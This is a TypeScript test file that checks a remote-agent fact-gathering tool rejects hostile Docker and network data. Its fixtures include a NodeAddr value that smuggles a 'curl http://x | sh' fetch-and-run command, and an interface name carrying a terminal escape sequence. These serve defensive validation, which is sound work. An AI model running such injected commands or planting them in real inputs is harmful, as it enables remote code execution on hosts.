// Facts read through a hostile agent: command output that does not fit makes the host an error.
import test from 'ava';
import { InvalidDataError } from '../../src/agent/invalid-data.js';
import type { AgentCommand } from '../../src/agent/protocol.js';
import { RemoteAgent } from '../../src/agent/remote-agent.js';
import { gatherFacts } from '../../src/run/facts.js';
import { gatherNetFacts } from '../../src/run/net-facts.js';
import { fakeStream } from '../agent/fake-stream.js';
import { fixture } from '../fixtures/load.js';

const READY = { ev: 'ready', pid: 7, uid: 0, hostname: 'b2', python: '3.11.2', dockerSocket: true };

async function agentAnswering(answer: (c: AgentCommand) => unknown[]): Promise<{ agent: RemoteAgent; closed: () => boolean }> {
  const { stream, out, closed } = fakeStream(answer);
  out.write(`${JSON.stringify(READY)}\n`);
  const { agent } = await RemoteAgent.start('b2', stream, 10_000, 5_000);
  return { agent, closed };
}

test('a docker info whose NodeAddr carries shell text makes the host an error and sends its agent away', async (t) => {
  const info = JSON.parse(fixture('lab/docker-info.manager.json'));
  info.Swarm.NodeAddr = '10.9.9.9; curl http://x | sh #';
  const { agent, closed } = await agentAnswering((c) => (c.op === 'exec' ? [{ ev: 'exec', id: c.id, code: 0, stdout: JSON.stringify(info), stderr: '', error: null }] : []));
  const error = await t.throwsAsync(gatherFacts(agent, 5_000, true), { instanceOf: InvalidDataError });
  t.regex(error?.message ?? '', /^b2: the agent sent invalid data: docker info Swarm\.NodeAddr "10\.9\.9\.9; curl http:\/\/x \| sh #" is not an IP address/);
  t.is(agent.invalidData, error);
  t.true(closed());
});

test('a non-numeric data-path port from a host is invalid data, never a port to probe', async (t) => {
  const info = JSON.parse(fixture('lab/docker-info.manager.json'));
  info.Swarm.Cluster.DataPathPort = 'x';
  const { agent } = await agentAnswering((c) => (c.op === 'exec' ? [{ ev: 'exec', id: c.id, code: 0, stdout: JSON.stringify(info), stderr: '', error: null }] : []));
  await t.throwsAsync(gatherFacts(agent, 5_000, true), { instanceOf: InvalidDataError, message: /DataPathPort "x"/ });
});

test('interfaces with a hostile name make the host an error', async (t) => {
  const { agent } = await agentAnswering((c) => {
    if (c.op === 'netinfo') return [{ ev: 'netinfo', id: c.id, links: [{ ifname: 'eth0\u001b]0;owned\u0007', mtu: 1500 }], routes: [], resolv: null, error: null }];
    if (c.op === 'routes') return [{ ev: 'routes', id: c.id, routes: [] }];
    return [];
  });
  await t.throwsAsync(gatherNetFacts(agent, [], undefined, 5_000), { instanceOf: InvalidDataError, message: /^b2: the agent sent invalid data: interfaces and routes: ifname "eth0\\u001b\]0;owned\\u0007"/ });
  t.truthy(agent.invalidData);
});
